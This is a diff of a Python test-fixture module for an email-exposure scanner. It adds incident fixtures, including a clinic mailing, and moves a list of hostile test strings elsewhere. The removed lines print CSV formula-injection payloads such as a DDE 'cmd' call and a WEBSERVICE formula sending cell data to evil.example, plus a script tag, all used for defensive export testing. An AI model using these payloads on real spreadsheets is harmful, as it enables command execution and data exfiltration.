@@ -11,57 +11,14 @@ from scanner.address import Address, Field, Recipient
 from scanner.case import Outcome, Run
 from scanner.coverage import ChosenBy, Coverage
 from scanner.defect import Defect
+from scanner.detector.rule_packs import rule_pack_of
+from scanner.detector.severity import severity_of
 from scanner.envelope import Envelope, Locator, Mark, Unparsed, Unreadable
 from scanner.exposure import Affected, Exposure, Identifiable, Standing, Viewer
-from scanner.incident import Incident
+from scanner.incident import Class, Event, Incident, Point, Role
 from scanner.policy import Ground, InternalDomain, Policy
+from tests.reports.hostile import HOSTILE
 
-FORMULA_OPENERS = (
-    "=1+1",
-    "=cmd|' /C calc'!A0",
-    '=HYPERLINK("https://evil.example/","click")',
-    '=WEBSERVICE("https://evil.example/"&A1)',
-    "==1",
-    "+1+1",
-    "+A1",
-    "-1+1",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1,1)",
-    "@A1",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "＝1+1",
-    "＋1+1",
-    "－1+1",
-    "＠SUM(1,1)",
-    "|calc",
-    "%0A=1+1",
-    " =1+1",
-    "'=1+1",
-    '"=1+1"',
-    ";=1+1",
-    "{=1+1}",
-)
-HOSTILE = (
-    *FORMULA_OPENERS,
-    "#REF!",
-    "#N/A",
-    "TRUE",
-    "007",
-    "1E400",
-    "2020-01-01",
-    "bell \x07 null \x00 escape \x1b[31m",
-    "lone \ud800 surrogate \udfff",
-    "right-to-left \u202egnp.exe\u202c and \u2066isolate\u2069 and mark \u200f",
-    "next line \x85 separator \u2028 noncharacter \ufffe\uffff",
-    "_x000D_ and _x0041_ written out",
-    "<script>alert(1)</script> & ]]> \"quotes\" 'more'",
-    "  spaces at both ends  ",
-    "Zoë Ångström 李小龍 עברית فارسی 👩‍👩‍👧",
-    "long " + "n" * 40_000,
-    "😀" * 20_000,
-)
 OURS = "handset.example"
 
 
@@ -75,9 +32,13 @@ class ExampleCase:
     held_unreadable: tuple[Unreadable, ...] = ()
     held_runs: tuple[Run, ...] = ()
     held_below: int = 0
+    held_cleared: tuple[Incident, ...] = ()
 
     def incidents(self) -> Iterator[Incident]:
         return iter(self.held_incidents)
+
+    def cleared(self) -> Iterator[Incident]:
+        return iter(self.held_cleared)
 
     def below_gate(self) -> int:
         return self.held_below
@@ -158,7 +119,94 @@ def incident(number: int, people: tuple[Affected, ...], message: Envelope, copie
     exposure = Exposure("visible-outsiders", f"m{number}", message, people, viewers, parties, counted, True, reasons)
     places = tuple(replace(message.locator, folder=f"Copies/{i}") for i in range(1, copies))
     digests = (message.digest, *(str(i) * 64 for i in range(1, copies)))
-    return Incident(f"INC-{number:08x}", (exposure,), (message.locator, *places), people, viewers, reasons, digests)
+    shown = tuple(replace(each, first=message.date, last=message.date) for each in people)
+    return Incident(
+        f"INC-{number:08x}",
+        (exposure,),
+        (message.locator, *places),
+        shown,
+        viewers,
+        reasons,
+        digests,
+        holds=(exposure.message,) * copies,
+        roles=(Role.ORIGINAL,),
+        timeline=(_event(exposure, Role.ORIGINAL),),
+        points=(Point(15, "100% of the pairs among them never stood together in mail that others wrote."),),
+        severity=severity_of(people, (), len(viewers), False, rule_pack_of("", date(2026, 11, 21))),
+    )
+
+
+def _event(exposure: Exposure, role: Role) -> Event:
+    message = exposure.envelope
+    author = message.author.canonical if message.author else None
+    return Event(message.date, role, exposure.message, message.locator, author, message.subject, len(exposure.affected))
+
+
+MAILING = datetime(2024, 2, 5, 9, 0, tzinfo=UTC)
+
+
+def mailing() -> Incident:
+    """A mailing in two batches and a visible apology; one bounce and one answer came back, and somebody quoted it."""
+    first, second = tuple(person(i) for i in range(400, 420)), tuple(person(i) for i in range(420, 440))
+    subjects = ("Your treatment dates (1/2)", "Your treatment dates (2/2)", "Apologies: your treatment dates")
+    parts = [
+        incident(10 + i, people, envelope(people, Locator("clinic", "Sent", f"9:{i}"), subject, sent))
+        for i, (people, subject, sent) in enumerate(
+            (
+                (first, subjects[0], MAILING),
+                (second, subjects[1], MAILING + timedelta(minutes=10)),
+                (first, subjects[2], MAILING + timedelta(hours=2)),
+            )
+        )
+    ]
+    exposures = tuple(part.exposures[0] for part in parts)
+    roles = (Role.ORIGINAL, Role.BATCH, Role.APOLOGY)
+    inbox = Locator("clinic", "INBOX", "7:41")
+    came_back = (
+        Event(MAILING + timedelta(minutes=1), Role.BOUNCE, "b1", replace(inbox, key="7:40"), None, "undeliverable"),
+        Event(MAILING + timedelta(hours=1), Role.REPLY, "b2", inbox, first[1].address, "your treatment dates (1/2)"),
+    )
+    again = {each.key: replace(each, last=MAILING + timedelta(hours=2), times=2) for each in parts[0].affected}
+    affected = tuple(again.get(each.key, each) for each in (*again.values(), *parts[1].affected))
+    affected = (replace(affected[0], known_to=3), *affected[1:])
+    copies = (("Copies/1", "a" * 64, exposures[0].message), ("Copies/2", "b" * 64, exposures[1].message))
+    return replace(
+        parts[0],
+        id="INC-00000004",
+        exposures=exposures,
+        locations=(
+            *(each.envelope.locator for each in exposures),
+            *(Locator("clinic", folder, "1") for folder, _, _ in copies),
+            inbox,
+        ),
+        digests=(*(each.envelope.digest for each in exposures), *(digest for _, digest, _ in copies), "c" * 64),
+        holds=(*(each.message for each in exposures), *(message for _, _, message in copies), "quotation"),
+        affected=affected,
+        viewers=tuple({viewer.address: viewer for part in parts for viewer in part.viewers}.values()),
+        roles=roles,
+        timeline=tuple(sorted((*map(_event, exposures, roles), *came_back), key=lambda event: event.when or MAILING)),
+        points=(
+            Point(30, "36 people were shown: 30 or more."),
+            Point(-10, "The subject speaks of work among colleagues."),
+            Point(25, "The subject is sensitive: health."),
+        ),
+        severity=severity_of(affected, ("health",), 42, False, rule_pack_of("", date(2026, 11, 21))),
+        contexts=("health",),
+        aliases=("INC-0000000b", "INC-0000000c"),
+        undelivered=(str(first[3].address),),
+    )
+
+
+def cleared_incidents() -> tuple[Incident, ...]:
+    """A standing group with a hostile subject, people in Bcc, and too few people."""
+    few = tuple(person(i, readers=24) for i in range(500, 507))
+    group = envelope(few, Locator("research", "Sent Items", "8:1"), "=1+1", datetime(2021, 4, 1, 9, tzinfo=UTC))
+    undated = replace(group, locator=Locator("research", "Sent Items", "8:2"), subject="Hello", date=None)
+    return (
+        replace(incident(20, few, group), klass=Class.STANDING_GROUP),
+        replace(incident(21, (), group), klass=Class.HIDDEN, roles=(Role.HIDDEN_TWIN,)),
+        replace(incident(22, few, undated), klass=Class.BELOW_GATE),
+    )
 
 
 def policy(ground: Ground = Ground.PROPOSED) -> Policy:
@@ -208,7 +256,7 @@ def hostile_incident() -> Incident:
 
 
 def full_case() -> ExampleCase:
-    """Three incidents, found in mail that was not all readable."""
+    """Four incidents, found in mail that was not all readable, and three that were cleared."""
     paris = timezone(timedelta(hours=2))
     many = tuple(person(i) for i in range(271))
     few = tuple(person(i, readers=24) for i in range(300, 314))
@@ -274,11 +322,12 @@ def full_case() -> ExampleCase:
     trouble = "The account “press office” was interrupted: the connection broke and could not be opened again."
     return ExampleCase(
         policy(),
-        (incident(1, many, survey, copies=3), hostile_incident(), incident(2, few, lunch)),
+        (incident(1, many, survey, copies=3), hostile_incident(), incident(2, few, lunch), mailing()),
         coverage,
         unreadable,
         (run(1, Outcome.STOPPED), run(2, Outcome.INCOMPLETE, (trouble,))),
         held_below=37,
+        held_cleared=cleared_incidents(),
     )
 
 
@@ -294,7 +343,7 @@ def clean_case() -> ExampleCase:
         newest=datetime(2026, 11, 20, 17, tzinfo=UTC),
         finished=True,
     )
-    return ExampleCase(policy(Ground.CONFIGURED), (), (folder,), (), (run(),))
+    return ExampleCase(policy(Ground.CONFIGURED), held_coverage=(folder,), held_runs=(run(),))
 
 
 def failed_case() -> ExampleCase:
